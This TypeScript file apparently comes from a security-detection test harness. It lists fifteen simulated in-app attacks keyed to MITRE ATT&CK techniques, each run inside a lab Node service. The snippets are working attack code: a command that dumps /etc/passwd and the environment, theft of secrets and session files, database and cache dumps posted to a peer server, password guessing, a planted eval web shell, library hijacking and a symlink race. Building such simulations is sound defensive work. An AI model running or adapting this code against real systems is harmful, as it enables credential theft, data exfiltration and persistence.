import type { Attack } from './attack.ts';

const BULK_MS = 25_000;

/** Sends text to a peer that the app may speak to, in pieces that its server takes. */
const POST = `const post = async (text) => {
  for (let at = 0; at < text.length; at += 400000)
    await fetch('http://web/healthz', { method: 'POST', body: text.slice(at, at + 400000) }).then((r) => r.text(), () => 0);
};`;

const inApp = (id: string, technique: string, title: string, code: string, more: Partial<Attack> = {}): Attack => ({
  id,
  technique,
  title,
  entry: 'service',
  shows: ['app'],
  act: (scene) => scene.app(code),
  ...more,
});

/** What runs inside the server process of the app, or is started by it. */
export const APP_ATTACKS: readonly Attack[] = [
  inApp(
    'app-bulk-theft',
    'T1041',
    'reads a whole table again and again and posts it to the allowed web server',
    `${POST} const until = Date.now() + ${BULK_MS};
    while (Date.now() < until) await post(JSON.stringify((await pool.query('select * from pgbench_accounts limit 20000')).rows));`,
    { shows: ['app', 'db'], touches: ['web'] },
  ),
  inApp(
    'app-command',
    'T1059.007',
    'runs commands through child_process out of a page',
    `require('child_process').execSync('id; uname -a; ls -la / /srv; cat /etc/passwd; env'); await pause(1000);`,
  ),
  inApp(
    'app-slow-scan',
    'T1046',
    'tries one port of the database host every twenty seconds',
    `const net = require('net');
    for (const port of [22, 3306, 27017]) {
      if (port > 22) await pause(20000);
      await new Promise((done) => net.connect(port, 'db').on('error', done).on('connect', done));
    }`,
    { touches: ['db'] },
  ),
  inApp(
    'app-session-theft',
    'T1539',
    'reads temporary files that other users left in /tmp',
    `const fs = require('fs');
    for (let i = 0; i < 5; i++) {
      for (const name of fs.readdirSync('/tmp')) if (name.startsWith('sess_')) fs.readFileSync('/tmp/' + name, 'utf8');
      await pause(3000);
    }`,
  ),
  inApp(
    'app-slow-beacon',
    'T1071.001',
    'calls an allowed peer by its address, without a name, every eight seconds',
    `const net = require('net');
    for (let i = 0; i < 5; i++) {
      await new Promise((done) => {
        const peer = net.connect(6379, '10.89.0.12', () => peer.end('PING\\r\\n'));
        peer.on('data', () => 0).on('close', done).on('error', done);
      });
      await pause(8000);
    }`,
    { touches: ['cache'] },
  ),
  inApp(
    'app-cpu-abuse',
    'T1496',
    'burns all the CPU that the limit allows, with a library that the app has anyway',
    `const { pbkdf2 } = require('crypto');
    const until = Date.now() + 30000;
    while (Date.now() < until) await new Promise((done) => pbkdf2('a', 'b', 20000, 64, 'sha512', done));`,
  ),
  inApp(
    'app-memory-balloon',
    'T1499.004',
    'fills half a gigabyte of memory and keeps it',
    'const kept = []; for (let i = 0; i < 8; i++) { kept.push(Buffer.alloc(64 << 20, i)); await pause(500); } await pause(20000); kept.length = 0;',
    { after: ({ restart }) => restart('app') },
  ),
  inApp(
    'app-proxy',
    'T1090.001',
    'listens on the loopback and passes on to the database',
    `const net = require('net');
    const proxy = net.createServer((from) => { const to = net.connect(5432, 'db'); from.pipe(to).pipe(from); to.on('error', () => 0); from.on('error', () => 0); });
    await new Promise((done) => proxy.listen(3128, '127.0.0.1', done));
    for (let i = 0; i < 5; i++) { const peer = net.connect(3128, '127.0.0.1'); await pause(3000); peer.destroy(); }
    proxy.close();`,
    { touches: ['db'] },
  ),
  inApp(
    'app-secret-watch',
    'T1552.001',
    'watches the folder of secrets and reads them every two seconds',
    `const fs = require('fs');
    const watch = fs.watch('/run/secrets', () => 0);
    for (let i = 0; i < 10; i++) { for (const name of fs.readdirSync('/run/secrets')) fs.readFileSync('/run/secrets/' + name); await pause(2000); }
    watch.close();`,
  ),
  inApp(
    'app-library-hijack',
    'T1574.006',
    'puts a library into the app folder and starts an allowed program with LD_LIBRARY_PATH',
    `const fs = require('fs');
    fs.mkdirSync('/srv/app/lib', { recursive: true });
    fs.copyFileSync('/usr/lib/x86_64-linux-gnu/libz.so.1', '/srv/app/lib/libz.so.1');
    require('child_process').execFileSync('node', ['--version'], { env: { ...process.env, LD_LIBRARY_PATH: '/srv/app/lib' } });
    await pause(1000);`,
    { after: (scene) => scene.app(`require('fs').rmSync('/srv/app/lib', { recursive: true })`) },
  ),
  inApp(
    'app-cache-theft',
    'T1213',
    'dumps every key of the cache and posts it to the allowed web server',
    `${POST} const until = Date.now() + 15000;
    while (Date.now() < until) {
      let text = '';
      for (const key of await cache.sendCommand(['KEYS', '*'])) text += await cache.sendCommand(['DUMP', key]);
      await post(text);
    }`,
    { shows: ['app', 'cache'], touches: ['web'] },
  ),
  inApp(
    'app-link-race',
    'T1068',
    'swaps a link in /tmp to and fro to win a race',
    `const fs = require('fs');
    for (let i = 0; i < 300; i++) {
      fs.symlinkSync(i % 2 ? '/etc/passwd' : '/srv/app/app.mjs', '/tmp/.swap');
      fs.renameSync('/tmp/.swap', '/tmp/shop-current');
      if (i % 30 === 0) await pause(300);
    }`,
    { after: (scene) => scene.app(`require('fs').rmSync('/tmp/shop-current')`) },
  ),
  inApp(
    'app-web-shell',
    'T1505.003',
    'writes a module into the app folder and loads it',
    `const fs = require('fs');
    fs.mkdirSync('/srv/app/plugins', { recursive: true });
    fs.writeFileSync('/srv/app/plugins/report.js', 'module.exports = (code) => eval(code);');
    require('/srv/app/plugins/report.js')('1 + 1'); await pause(1000);`,
    { after: (scene) => scene.app(`require('fs').rmSync('/srv/app/plugins', { recursive: true })`) },
  ),
  inApp(
    'app-discovery',
    'T1057',
    'reads what /proc tells about processes and connections',
    `const fs = require('fs');
    for (const pid of fs.readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name)))
      for (const file of ['cmdline', 'status', 'maps']) try { fs.readFileSync('/proc/' + pid + '/' + file); } catch {}
    for (const file of ['tcp', 'route', 'arp']) fs.readFileSync('/proc/net/' + file);
    await pause(1000);`,
  ),
  inApp(
    'app-guessing',
    'T1110.001',
    'guesses passwords of the database, one every second',
    `const { Client } = require('pg');
    for (let i = 0; i < 25; i++) {
      const client = new Client({ host: 'db', user: 'postgres', database: 'shop', password: 'guess-' + i });
      await client.connect().catch(() => 0);
      await client.end().catch(() => 0);
      await pause(1000);
    }`,
    { shows: ['db', 'app'] },
  ),
];
